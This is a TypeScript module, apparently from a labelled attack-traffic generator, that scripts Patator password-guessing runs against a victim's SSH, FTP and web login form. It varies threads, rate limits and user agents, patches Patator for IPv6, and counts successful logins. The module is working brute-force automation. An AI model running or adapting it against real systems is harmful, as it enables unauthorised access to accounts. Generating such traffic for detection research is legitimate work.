// Password guessing with Patator, a third tool for SSH and FTP and a second one for the web
// log-in form (http_fuzz, which, unlike hydra's http-post-form, takes the form's 401 for a failed
// guess): threads, persistent connections or one per guess, a pause between attempts and the
// retry count drawn per run; for the web, sometimes the form page fetched before every POST and a
// browser's user agent. Failed guesses are filtered (-x ignore), so its "hits" are real successes.
// Over IPv6: ftp_login takes the address as it is; http_fuzz and ssh_login need help (below).
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { ZONE } from "../services/dns-ntp-server.ts";
import type { Scenario, ScenarioContext, ScenarioResult } from "../scenario.ts";
import { Budget, firstErrorLine, runTool } from "./bounded.ts";
import { urlHost } from "./addresses.ts";
import { randomBrowser, webOrigin } from "./curl-session.ts";
import { chance, intBetween, maybe, pick, type Rng } from "./random.ts";
import { FTP_TARGET, guessLists, largest, SSH_TARGET, type LoginTarget } from "./login-targets.ts";
import { passwordList, userList, writeList } from "./wordlists.ts";

const PATATOR = "/usr/bin/patator";
/** ssh_login's connection: paramiko parses "host:port" by its first ':'. */
const SSH_CONNECT = "paramiko.Transport('%s:%s' % (host, int(port)))";

/**
 * Patator 0.9's ssh_login hands paramiko "host:port" as one string, which paramiko cuts at the
 * first ':', so no IPv6 address connects. The copy an IPv6 run uses passes (host, port) instead,
 * as paramiko also takes it, and is otherwise the packaged tool (run by the system Python, as
 * its #! line says).
 */
function ipv6Patator(workDir: string): string[] {
  const source = readFileSync(PATATOR, "utf8");
  if (!source.includes(SSH_CONNECT)) throw new Error(`${PATATOR}: no "${SSH_CONNECT}" to make ssh_login take an IPv6 address (another patator version?)`);
  const path = join(workDir, "patator-ipv6.py");
  writeFileSync(path, source.replace(SSH_CONNECT, "paramiko.Transport((host, int(port)))"));
  return ["/usr/bin/python3", path];
}

interface PatatorJob {
  /** How to run patator (the packaged one, or the IPv6 copy of ssh_login). */
  program: string[];
  /** Module and its options (FILE0 = users, FILE1 = passwords). */
  module: string[];
  userFile: string;
  passwordFiles: string[];
  users: number;
  perRun: number;
  threads: [number, number];
}

function serviceJob(rng: Rng, ctx: ScenarioContext, target: LoginTarget, runs: number): PatatorJob {
  const lists = guessLists(rng, ctx, target, runs, [80, 300], `patator-${target.service}`);
  const persistent = chance(rng, 0.5) ? "1" : "0";
  const module = target.service === "ssh"
    ? ["ssh_login", `host=${ctx.victimIp}`, `port=${target.port(ctx)}`, "user=FILE0", "password=FILE1", `persistent=${persistent}`, "-x", "ignore:mesg=Authentication failed."]
    : ["ftp_login", `host=${ctx.victimIp}`, `port=${target.port(ctx)}`, "user=FILE0", "password=FILE1", `persistent=${persistent}`, "timeout=5", "-x", "ignore:mesg=Login incorrect."];
  const threads: [number, number] = target.service === "ssh" ? [2, 6] : [2, 10];
  const program = target.service === "ssh" && ctx.family === 6 ? ipv6Patator(ctx.workDir) : ["patator"];
  return { program, module, userFile: lists.userFile, passwordFiles: lists.passwordFiles, users: lists.users.length, perRun: lists.perRun, threads };
}

function webJob(rng: Rng, ctx: ScenarioContext, runs: number): PatatorJob {
  const { user, password, loginPath } = ctx.services.web;
  const users = userList(rng, intBetween(rng, 1, 4), maybe(rng, 0.7, user));
  const perRun = Math.ceil(intBetween(rng, 100, 300) / users.length);
  const passwords = passwordList(rng, perRun * runs, maybe(rng, 0.5, password));
  // http_fuzz cuts its URL's host at every ':' (an IPv6 one fails before it is sent): over IPv6
  // the URL names the site's host, which curl's resolve entry maps to the victim's address.
  const siteHost = `www.${ZONE}`;
  const url = ctx.family === 6 ? `http://${siteHost}${ctx.services.web.port === 80 ? "" : `:${ctx.services.web.port}`}${loginPath}` : webOrigin(ctx) + loginPath;
  const module = [
    "http_fuzz", `url=${url}`, "method=POST", "body=user=FILE0&password=FILE1", "header=Content-Type: application/x-www-form-urlencoded",
    `persistent=${chance(rng, 0.6) ? "1" : "0"}`, "timeout=5", "timeout_tcp=4",
    // Without it patator 0.9 hands pycurl an empty CURLOPT_RESOLVE entry, which the current
    // pycurl refuses (every request fails before it is sent).
    ctx.family === 6 ? `resolve=${siteHost}:${urlHost(ctx.victimIp)}` : `resolve=${ctx.victimIp}:${ctx.victimIp}`,
    ...(chance(rng, 0.5) ? [`header=User-Agent: ${randomBrowser(rng).userAgent}`] : []),
    // As a careful script does: load the form before each submission.
    ...(chance(rng, 0.3) ? [`before_urls=${url}`] : []),
    "-x", "ignore:code=401",
  ];
  return {
    program: ["patator"],
    module,
    userFile: writeList(ctx.workDir, "patator-web-users.txt", users),
    passwordFiles: Array.from({ length: runs }, (_, i) => writeList(ctx.workDir, `patator-web-passwords-${i}.txt`, passwords.slice(i * perRun, (i + 1) * perRun))),
    users: users.length,
    perRun,
    threads: [2, 12],
  };
}

async function runPatator(ctx: ScenarioContext, makeJob: (rng: Rng, runs: number) => PatatorJob): Promise<ScenarioResult> {
  const { rng } = ctx;
  const budget = new Budget(ctx.durationMs);
  const runs = intBetween(rng, 1, 3);
  const job = makeJob(rng, runs);
  const threads = intBetween(rng, ...job.threads);
  const rateLimit = chance(rng, 0.3) ? pick(rng, ["0.05", "0.1", "0.2", "0.5"]) : null;
  let done = 0;
  let hits = 0;
  let ran = 0;
  let stoppedByBudget = false;
  let failures = 0;
  let firstFailure: string | undefined;
  const problems: string[] = [];
  for (; ran < runs && budget.allows(2_000); ran++) {
    const argv = [
      ...job.program, ...job.module, `0=${job.userFile}`, `1=${job.passwordFiles[ran]!}`, `--threads=${threads}`, "--max-retries=1", "--timeout=5",
      ...(rateLimit ? [`--rate-limit=${rateLimit}`] : []),
    ];
    ctx.log(`${argv.join(" ")} (${job.users} users x ${job.perRun} passwords)`);
    const run = await runTool(ctx, budget, argv, { maxMs: budget.remainingMs(), graceMs: 0 });
    const out = run.stdout + run.stderr;
    // Attempts that never reached the server (connection errors) are not guesses.
    const failed = (out.match(/ FAIL - /g) ?? []).length;
    firstFailure ??= / FAIL - .*\| (.*)$/m.exec(out)?.[1]?.trim().slice(0, 120);
    const summary = /Hits\/Done\/Skip\/Fail\/Size: (\d+)\/(\d+)\//.exec(out);
    if (summary) {
      hits += Number(summary[1]);
      done += Math.max(0, Number(summary[2]) - failed);
    } else {
      // Stopped before its summary: its progress lines say how far it got.
      done += Math.max(0, largest(out, /Progress:\s+\d+% \((\d+)\/\d+\)/g) - failed);
    }
    failures += failed;
    if (run.killed) stoppedByBudget = true;
    else if (run.code !== 0) problems.push(firstErrorLine(run));
    await budget.pause(intBetween(rng, 500, 3_000));
  }
  const notes = [`${ran} runs of ${job.users} users x ${job.perRun} passwords, ${threads} threads${rateLimit ? `, ${rateLimit} s between attempts` : ""}, ${hits} hits`];
  if (stoppedByBudget) notes.push("last run stopped at the budget");
  if (failures > 0) notes.push(`${failures} attempts failed (${firstFailure ?? "?"})`);
  if (problems.length > 0) notes.push(`errors: ${[...new Set(problems)].join(" | ")}`);
  return { actions: done, note: notes.join(", ") };
}

export const PATATOR_SCENARIOS: Scenario[] = [
  ...[SSH_TARGET, FTP_TARGET].map((target): Scenario => ({
    id: `patator-${target.service}`,
    label: target.label,
    tool: "patator",
    ipv6: true,
    description: `patator ${target.service}_login password guessing (threads, persistent or not, per run)`,
    run: (ctx) => runPatator(ctx, (rng, runs) => serviceJob(rng, ctx, target, runs)),
  })),
  {
    id: "patator-web-login",
    label: "Web-BruteForce",
    tool: "patator",
    ipv6: true,
    description: "patator http_fuzz POSTs of user/password guesses to the login form",
    run: (ctx) => runPatator(ctx, (rng, runs) => webJob(rng, ctx, runs)),
  },
];
